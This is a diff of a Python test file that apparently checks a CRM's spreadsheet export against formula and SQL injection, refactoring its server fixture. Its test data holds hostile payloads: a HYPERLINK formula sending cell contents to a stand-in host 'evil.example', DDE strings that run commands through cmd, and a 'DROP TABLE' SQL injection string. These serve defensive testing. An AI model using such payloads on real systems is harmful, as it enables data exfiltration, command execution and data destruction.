@@ -14,10 +14,8 @@ import io
 import openpyxl
 import pytest
 
-import crmdb
-from conftest import OdooServer
+from conftest import demo_server
 
-DB = crmdb.test_db('crm_test_injection')
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C notepad'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C mspaint'!A0", '\t=1+1']
 SQL_TEXT = ["O'Brien'); DROP TABLE res_partner; --", '100% "quoted" _shop_ /*', 'back\\slash']
@@ -25,13 +23,8 @@ SQL_TEXT = ["O'Brien'); DROP TABLE res_partner; --", '100% "quoted" _shop_ /*', 
 
 @pytest.fixture(scope='module')
 def server(demo_template):
-    crmdb.create_db(DB, template=demo_template)
-    try:
-        with OdooServer(DB, 'injection') as odoo:
-            yield odoo
-            assert not odoo.bad_log_lines()
-    finally:
-        crmdb.drop_db(DB)
+    with demo_server(demo_template, 'crm_test_injection', 'injection') as odoo:
+        yield odoo
 
 
 def test_formulas_in_names_reach_the_workbook_as_text(server, capsys):
